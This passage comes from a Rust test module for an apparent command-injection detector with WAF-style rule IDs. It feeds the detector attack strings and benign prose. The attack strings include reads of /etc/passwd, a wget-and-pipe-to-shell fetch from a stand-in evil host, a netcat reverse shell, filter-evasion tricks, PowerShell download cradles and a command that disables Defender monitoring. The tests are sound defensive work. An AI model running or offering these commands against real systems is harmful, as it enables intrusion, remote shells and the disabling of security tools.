                    .is_some_and(|regex| regex.is_match(found.as_bytes())),
                "{found:?} does not match"
            );
            assert!(
                may_hold_powershell(&Form::new(found.as_bytes())),
                "{found:?}"
            );
        }
        // What the gate turns away, for the reasons in `POWERSHELL_WORDS`.
        for passed_by in [
            "pwsh-e",
            "pwsh e",
            "powershell-e",
            "powershell e",
            "iex x",
            "new-object",
            "x.downloadstring",
        ] {
            assert!(
                !may_hold_powershell(&Form::new(passed_by.as_bytes())),
                "{passed_by}"
            );
        }
    }

    #[test]
    fn command_lines_after_separators_fire() {
        for attack in [
            ";cat /etc/passwd",
            "127.0.0.1; id",
            "x | whoami",
            "a && uname -a",
            "$(wget http://evil.example/x.sh -O- | sh)",
            "`id`",
            "127.0.0.1`id`",
            "x\nnc -e /bin/sh 10.0.0.1 4444",
            "127.0.0.1 & ipconfig /all",
            "foo|/bin/bash -i",
            "1;sleep 10",
        ] {
            assert_eq!(rule_ids(attack), vec![932100], "{attack}");
        }
    }

    #[test]
    fn evasions_are_seen_through() {
        for attack in [
            ";c''at /etc/passwd",
            ";c\\at /etc/passwd",
            "cat$IFS/etc/passwd",
            ";cu$@rl evil.example",
            ";cat ${PATH:0:1}etc${PATH:0:1}passwd",
            "{cat,/etc/passwd}",
            "& w^h^o^a^m^i",
        ] {
            let ids = rule_ids(attack);
            assert!(
                ids == vec![932110] || ids == vec![932100],
                "{attack}: {ids:?}"
            );
        }
    }

    #[test]
    fn powershell_fires() {
        for attack in [
            "powershell -enc SQBFAFgA",
            "IEX(New-Object Net.WebClient).DownloadString('http://x/a')",
            "; Invoke-Expression $x",
            // One per alternative of the pattern, so that an edit its prefilter misses fails.
            "pwsh.exe -NoProfile -c whoami",
            "iex \"$payload\"",
            "x.DownloadFile ('http://x/a', 'a.exe')",
            "Start-Process calc",
            "Set-MpPreference -DisableRealtimeMonitoring 1",
        ] {
            assert!(
                may_hold_powershell(&Form::new(attack.as_bytes())),
                "{attack}"
            );
            assert_eq!(rule_ids(attack), vec![932120], "{attack}");
        }
    }

    #[test]
    fn prose_passes() {
        for benign in [
            "What time is it? I need to cat-sit at ls 5.",
            "Tom & Jerry",
            "rock & roll; find your groove",
            "I like cats; cat videos are fun",
            "Q&A: how do I ping you?",
            "The id is 42 | status: done",
            "it's \"less\" than I hoped",
            "He said: echo this back",
            "Sure; I'd love to, it's great",
            "Run `ls -la` in the project folder and paste the output here.",
            "```python\nfor item in items:\n    print(item.name)\n```",
            "salt & pepper",
        ] {
            assert!(!rule_ids(benign).contains(&932100), "{benign}");
            assert!(!rule_ids(benign).contains(&932110), "{benign}");
        }
        assert_eq!(rule_ids("I like cats; cat videos are fun"), vec![932101]);
    }
}
